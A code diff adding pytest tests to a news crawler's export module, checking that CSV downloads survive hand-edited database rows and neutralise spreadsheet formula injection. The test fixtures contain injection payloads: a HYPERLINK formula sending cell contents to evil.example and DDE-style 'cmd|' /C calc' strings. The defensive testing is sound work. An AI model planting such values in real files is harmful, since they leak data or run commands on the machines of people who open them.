@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import sqlite3
 import subprocess
 import sys
 from xml.etree import ElementTree as ET
@@ -12,10 +13,11 @@ from xml.etree import ElementTree as ET
 import pytest
 from click.testing import CliRunner
 
-from crawler.export import atom_feed, export, rfc3339
+from crawler.export import atom_feed, export, no_formula, rfc3339
+from crawler.serve import build_datasette
 from storage import open_db, queries
 
-from .test_serve import QUEUE
+from .test_serve import QUEUE, REVIEWER, call
 
 ATOM = "{http://www.w3.org/2005/Atom}"
 
@@ -169,6 +171,87 @@ def test_a_missing_database_is_named(tmp_path):
 ])
 def test_rfc3339(value, expected):
     assert rfc3339(value) == expected
+
+
+def set_columns(path, article_id: int, **values) -> None:
+    """Change an article the way a person does in DB Browser for SQLite: straight in the file."""
+    with sqlite3.connect(path) as conn:
+        conn.execute(f"UPDATE articles SET {', '.join(f'{k} = ?' for k in values)} WHERE id = ?",
+                     [*values.values(), article_id])
+    conn.close()
+
+
+def csv_rows(out: str) -> dict[int, dict[str, str]]:
+    return {int(r["id"]): r for r in csv.DictReader(io.StringIO(out.removeprefix("\ufeff")))}
+
+
+# Not JSON (edited by hand), JSON but not a list, and a BLOB that is not even UTF-8.
+@pytest.mark.parametrize("matched_terms", ["not json", '{"term": "反撃能力", "count": 5}', "[{", b"\xff\xfe"])
+def test_an_unreadable_matched_terms_gives_no_terms_but_the_article_is_exported(review_db, matched_terms):
+    path, ids = review_db
+    set_columns(path, ids["nikkei"], matched_terms=matched_terms)
+    code, out, err = run_export("--db", str(path), "--format", "csv")
+    assert code == 0, err
+    rows = csv_rows(out)
+    assert set(rows) == {ids[k] for k in QUEUE}
+    assert rows[ids["nikkei"]]["title"].startswith("反撃能力行使")
+    code, out, err = run_export("--db", str(path), "--format", "jsonl")
+    assert code == 0, err
+    terms = {json.loads(line)["id"]: json.loads(line)["matched_terms"] for line in out.splitlines()}
+    assert terms[ids["nikkei"]] == []
+    assert terms[ids["japannews"]] and all(t["term"] for t in terms[ids["japannews"]])  # the others keep theirs
+    code, out, err = run_export("--db", str(path), "--format", "atom")
+    assert code == 0, err
+    assert len(ET.fromstring(out).findall(f"{ATOM}entry")) == len(QUEUE)
+
+
+def test_the_desks_csv_download_keeps_a_hand_edited_row_and_defuses_formulas(review_db):
+    path, ids = review_db
+    set_columns(path, ids["nikkei"], matched_terms="not json", title='=HYPERLINK("http://evil.example/?x="&A1,"x")')
+    response = call(build_datasette(path, reviewer=REVIEWER), "get", "/export.csv?status=all")
+    assert response.status_code == 200, response.text
+    rows = csv_rows(response.content.decode("utf-8"))
+    assert rows[ids["nikkei"]]["title"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+
+
+EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"安保3文書 詳細")'
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(review_db):
+    path, ids = review_db
+    set_columns(path, ids["nikkei"], title=EVIL_TITLE, outlet="@SUM(1+1)*cmd|' /C calc'!A0",
+                url="-2+3+cmd|' /C calc'!A0", topic="+1", score=-0.5, removed="\t=1+1")
+    db = open_db(path)
+    queries.set_status(db, ids["nikkei"], "new", note="=1+1\nsecond line", by="@tester")
+    db.close()
+    code, out, err = run_export("--db", str(path), "--format", "csv")
+    assert code == 0, err
+    nikkei = csv_rows(out)[ids["nikkei"]]
+    assert nikkei["title"] == "'" + EVIL_TITLE
+    assert nikkei["outlet"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert nikkei["url"] == "'-2+3+cmd|' /C calc'!A0"
+    assert nikkei["topic"] == "'+1"
+    assert nikkei["review_note"] == "'=1+1 / second line"
+    assert nikkei["reviewed_by"] == "'@tester"
+    assert nikkei["removed"] == "'=1+1"  # one_line took the tab off; the quote goes on what is left
+    # The numbers newsmon writes are numbers, a negative score too; ordinary text is untouched.
+    assert (nikkei["id"], nikkei["score"]) == (str(ids["nikkei"]), "-0.5")
+    assert nikkei["evidence"].startswith("反撃能力 ×5")
+    # JSON lines and Atom are for programs and feed readers, not spreadsheets: the title as stored.
+    code, out, _ = run_export("--db", str(path), "--format", "jsonl")
+    assert code == 0
+    assert {json.loads(line)["title"] for line in out.splitlines()} >= {EVIL_TITLE}
+    code, out, _ = run_export("--db", str(path), "--format", "atom")
+    assert code == 0
+    assert EVIL_TITLE in {e.findtext(f"{ATOM}title") for e in ET.fromstring(out).iter(f"{ATOM}entry")}
+
+
+@pytest.mark.parametrize(("value", "expected"), [
+    ("=1+1", "'=1+1"), ("+81 3", "'+81 3"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("反撃能力", "反撃能力"), ("a=b", "a=b"), (" =1", " =1"), ("", ""), (None, None), (-0.5, -0.5), (7, 7),
+])
+def test_no_formula(value, expected):
+    assert no_formula(value) == expected
 
 
 def test_runs_as_a_process(review_db):
